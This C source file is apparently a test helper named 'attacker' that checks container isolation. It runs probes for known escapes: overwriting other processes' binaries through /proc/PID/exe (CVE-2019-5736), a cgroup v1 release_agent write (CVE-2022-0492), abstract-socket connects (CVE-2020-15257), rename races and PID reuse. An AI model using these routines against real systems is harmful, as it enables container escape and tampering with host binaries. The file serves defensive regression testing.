/* SPDX-License-Identifier: Apache-2.0
 *
 * attacker WHAT [ARGUMENT...]: what the attack tests need code for, inside and outside of containers; the table at the end has the list.
 * Static, so that it runs in any root file system.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sched.h>
#include <signal.h>
#include <spawn.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_stop(int signal)
{
	(void)signal;
	stop = 1;
}

static int64_t now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (int64_t)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* ---- races ---- */

/* swap A B [COUNT]: exchanges two names until SIGTERM comes (or the file COUNT.stop is there), and keeps the number in the file COUNT. */
static int do_swap(char **argv)
{
	long n = 0;
	int count = argv[2] ? open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0644) : -1;

	signal(SIGTERM, on_stop);
	while (!stop) {
		if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) == 0)
			n++;
		if (count >= 0 && n % 64 == 0) {
			char text[32];
			int len = snprintf(text, sizeof text, "%ld\n", n);

			(void)!pwrite(count, text, (size_t)len, 0);
		}
	}
	return 0;
}

/* ---- CVE-2019-5736 ---- */

static const char mark[] = "overwritten by the container\n";

/* By the descriptor's name, which opens the file anew; "text file busy" as long as somebody runs it. Returns what was written. */
static ssize_t overwrite(int exe, int64_t ms)
{
	char path[64];

	snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
	for (int64_t end = now_ms() + ms; now_ms() < end;) {
		int out = open(path, O_WRONLY | O_CLOEXEC);

		if (out >= 0)
			return write(out, mark, sizeof mark - 1);
		if (errno != ETXTBSY)
			return -1;
	}
	return -1;
}

/* overwrite FD */
static int do_overwrite(char **argv)
{
	return overwrite((int)strtol(argv[0], NULL, 10), 2000) > 0 ? 0 : 1;
}

/* Opens /proc/PID/exe of others to write into it, as fast as it can, until it is killed. What is our own file is left alone. */
static void try_exe(long pid, const struct stat *own, FILE *say)
{
	char path[64];
	struct statvfs fs;
	struct stat st;
	int fd, seals, writable;

	snprintf(path, sizeof path, "/proc/%ld/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) < 0)
		return;
	if (st.st_dev == own->st_dev && st.st_ino == own->st_ino) {
		close(fd);
		return;
	}
	/* Every file of a tmpfs is sealed against more seals: that alone says nothing. */
	seals = fcntl(fd, F_GET_SEALS);
	writable = fstatvfs(fd, &fs) == 0 && !(fs.f_flag & ST_RDONLY) && (seals < 0 || !(seals & F_SEAL_WRITE));
	fprintf(say, "opened %s of device %lx inode %lu, %s\n", path, (unsigned long)st.st_dev,
		(unsigned long)st.st_ino, writable ? "writable" : "read-only");
	fflush(say);
	fprintf(say, "wrote %zd\n", overwrite(fd, 200));
	fflush(say);
	close(fd);
}

/* exe FILE: what it could open and write is told in FILE. Everything in the image is to be one file (busybox and we are not). */
static int do_exe(char **argv)
{
	FILE *say = fopen(argv[0], "we");
	struct stat own;

	if (!say || stat("/proc/self/exe", &own) < 0)
		return 9;
	signal(SIGTERM, on_stop);
	while (!stop) {
		DIR *d = opendir("/proc");

		for (struct dirent *e = d ? readdir(d) : NULL; e; e = readdir(d)) {
			if (e->d_name[0] >= '0' && e->d_name[0] <= '9')
				try_exe(strtol(e->d_name, NULL, 10), &own, say);
		}
		if (d)
			closedir(d);
	}
	return 0;
}

/* ---- counting ---- */

/* repeat N COMMAND...: prints how many ended with 0. */
static int do_repeat(char **argv)
{
	int good = 0;

	for (long n = strtol(argv[0], NULL, 10); n > 0; n--) {
		pid_t pid;
		int status;

		if (posix_spawnp(&pid, argv[1], NULL, NULL, argv + 1, environ) != 0)
			return 9;
		if (waitpid(pid, &status, 0) == pid && status == 0)
			good++;
	}
	printf("%d\n", good);
	return 0;
}

/* measure SECONDS COMMAND...: on standard error, at the end, "measured: MILLISECONDS MAX_RSS_KIB STATUS"; ends it after so many seconds (STATUS 124). */
static int do_measure(char **argv)
{
	int64_t start = now_ms(), limit_ms = strtol(argv[0], NULL, 10) * 1000;
	pid_t pid = fork();
	struct rusage used;
	int status = 0, killed = 0;

	if (pid == 0) {
		execvp(argv[1], argv + 1);
		_exit(127);
	}
	while (waitpid(pid, &status, WNOHANG) == 0) {
		if (now_ms() - start > limit_ms && !killed++)
			kill(pid, SIGKILL);
		usleep(1000);
	}
	getrusage(RUSAGE_CHILDREN, &used);
	fprintf(stderr, "measured: %ld %ld %d\n", (long)(now_ms() - start), used.ru_maxrss,
		killed		    ? 124
		: WIFEXITED(status) ? WEXITSTATUS(status)
				    : 128 + WTERMSIG(status));
	return killed ? 124 : WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* ---- abstract sockets (CVE-2020-15257) ---- */

static int connect_abstract(const char *name, size_t len)
{
	static const int types[] = {SOCK_STREAM, SOCK_SEQPACKET, SOCK_DGRAM};
	struct sockaddr_un addr = {.sun_family = AF_UNIX};

	if (len >= sizeof addr.sun_path)
		return 0;
	memcpy(addr.sun_path + 1, name, len);
	for (size_t i = 0; i < 3; i++) {
		int fd = socket(AF_UNIX, types[i] | SOCK_CLOEXEC, 0);
		int r = connect(fd, (struct sockaddr *)&addr,
				(socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len));

		close(fd);
		if (r == 0)
			return 1;
	}
	return 0;
}

/* abstract: every abstract socket of this network namespace that listens, and whether we can connect to it. */
static int do_abstract(char **argv)
{
	FILE *f = fopen("/proc/net/unix", "re");
	char line[512];

	(void)argv;
	while (f && fgets(line, sizeof line, f)) {
		char *at = strchr(line, '@');

		if (!at)
			continue;
		at[strcspn(at, "\n")] = '\0';
		printf("%s %s\n", at, connect_abstract(at + 1, strlen(at + 1)) ? "connected" : "refused");
	}
	return f ? 0 : 9;
}

/* connect PATH: to a socket of the file system, as a stream. */
static int do_connect(char **argv)
{
	struct sockaddr_un addr = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	char c;

	snprintf(addr.sun_path, sizeof addr.sun_path, "%s", argv[0]);
	if (connect(fd, (struct sockaddr *)&addr, sizeof addr) < 0) {
		printf("connect: %s\n", strerrorname_np(errno));
		return 1;
	}
	if (argv[1] && write(fd, argv[1], strlen(argv[1])) < 0)
		return 1;
	printf("connected, %s\n", read(fd, &c, 1) > 0 ? "answered" : "shut");
	return 0;
}

/* ---- cgroup version 1 (CVE-2022-0492) ---- */

static void try_cgroup_mount(const char *when, const char *controller)
{
	(void)mkdir("/tmp/cg", 0755);
	if (mount("cgroup", "/tmp/cg", "cgroup", 0, controller) < 0) {
		printf("%s mount %s: %s\n", when, controller, strerrorname_np(errno));
		return;
	}
	printf("%s mount %s: ok\n", when, controller);
	int fd = open("/tmp/cg/release_agent", O_WRONLY | O_CLOEXEC);
	printf("%s release_agent: %s\n", when, fd >= 0 && write(fd, "/evil", 5) > 0 ? "ok" : strerrorname_np(errno));
	umount2("/tmp/cg", MNT_DETACH);
}

static int do_cgroup1(char **argv)
{
	static const char *const controllers[] = {"memory", "rdma", "pids", "cpu", "none,name=attack"};

	(void)argv;
	for (size_t i = 0; i < 5; i++)
		try_cgroup_mount("direct", controllers[i]);
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
		printf("unshare: %s\n", strerrorname_np(errno));
		return 0;
	}
	puts("unshare: ok");
	for (size_t i = 0; i < 5; i++)
		try_cgroup_mount("unshared", controllers[i]);
	return 0;
}

/* ---- reused pids ---- */

static void be_hit(int signal, siginfo_t *info, void *ctx)
{
	char line[64];
	int n = snprintf(line, sizeof line, "signal %d from process %d\n", signal, (int)info->si_pid);

	(void)ctx;
	(void)!write(1, line, (size_t)n);
}

/* pid N: a process whose number is N, which must be free. Says "ready", then every signal that it is sent, until standard input ends: "end". */
static int do_pid(char **argv)
{
	long want = strtol(argv[0], NULL, 10);
	struct sigaction act = {.sa_sigaction = be_hit, .sa_flags = SA_SIGINFO | SA_RESTART};
	char c;

	for (int i = 0; i < 2000; i++) {
		FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "we");
		pid_t pid;

		if (!f || fprintf(f, "%ld", want - 1) < 0 || fclose(f) != 0)
			return 9;
		pid = fork();
		if (pid == 0 && getpid() != want)
			_exit(0);
		if (pid == 0) {
			for (int s = 1; s < 32; s++)
				sigaction(s, &act, NULL);
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			puts("ready");
			fflush(stdout);
			while (read(0, &c, 1) > 0)
				;
			puts("end");
			fflush(stdout);
			_exit(0);
		}
		waitpid(pid, NULL, 0);
		if (pid == want)
			return 0;
	}
	return 9;
}

static const struct {
	const char *name;
	int args;
	int (*run)(char **argv);
} table[] = {
    {"swap", 2, do_swap},	{"exe", 1, do_exe},	    {"overwrite", 1, do_overwrite},
    {"repeat", 2, do_repeat},	{"measure", 2, do_measure}, {"abstract", 0, do_abstract},
    {"connect", 1, do_connect}, {"cgroup1", 0, do_cgroup1}, {"pid", 1, do_pid},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof table / sizeof *table; i++) {
		if (!strcmp(argv[1], table[i].name) && argc - 2 >= table[i].args)
			return table[i].run(argv + 2);
	}
	fputs("attacker: see the table in attacker.c\n", stderr);
	return 2;
}
